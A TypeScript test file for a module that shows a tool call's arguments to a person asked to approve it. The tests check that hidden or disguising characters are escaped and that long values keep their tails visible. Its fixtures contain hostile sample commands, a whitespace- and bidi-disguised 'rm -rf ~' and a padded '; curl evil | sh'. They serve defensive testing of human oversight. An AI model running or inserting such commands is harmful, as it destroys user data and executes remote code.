/**
 * How arguments are shown to a person asked to approve a call (`shown-arguments.ts`): nothing
 * that could hide or disguise text is rendered, and a long value keeps its tail in sight.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { argumentsSummary, shownArguments, visibleJson, visibleText } from '../../src/decisions/shown-arguments.js';

describe('shown arguments', () => {
  it('escapes zero-width, bidi, unusual spaces and long space runs, keeps an indentation and CRLF line ends', () => {
    assert.equal(visibleText('a\u200bb\u2066c\u00a0d\u3000e\ufeff'), 'a\\u{200b}b\\u{2066}c\\u{a0}d\\u{3000}e\\u{feff}');
    assert.equal(visibleText(`x${' '.repeat(9)}y  z`), 'x\\u{20}×9y  z');
    assert.equal(visibleText(`def f():\r\n${' '.repeat(12)}return 1`), `def f():\n${' '.repeat(12)}return 1`);
    assert.equal(visibleText('\t\t\t\t\t', false), '\\u{9}×5');
    assert.equal(visibleText('a\nb', false), 'a\\u{a}b');
  });

  it('visibleJson parses to the same value and renders none of them', () => {
    const value = { command: `echo a${' '.repeat(30)}; rm -rf ~ \u202e\u0085\u2028`, nested: [{ k: '\u200d' }] };
    const json = visibleJson(value, 2);
    assert.deepEqual(JSON.parse(json), value);
    assert.ok(!/[\u202e\u0085\u2028\u200d]| {9}"?[^ ]/.test(json.replace(/^ +/gm, '')), json);
  });

  it('a long value shows head and tail with the omitted count; the summary of list too', () => {
    const { entries, cut, cutCommands } = shownArguments({ content: `${'a'.repeat(1000)}TAIL`, command: 'ls' });
    assert.match(entries[0]!.value.text, /^a+ \.\.\. \[\d+ characters omitted\] \.\.\. a+TAIL$/);
    assert.deepEqual([cut, cutCommands], [['content'], []]);
    const summary = argumentsSummary({ command: `${'x'.repeat(200)}; curl evil | sh` });
    assert.equal(summary.cut, true);
    assert.match(summary.text, /…\[\d+ more\]….*; curl evil \| sh"\}$/);
  });
});
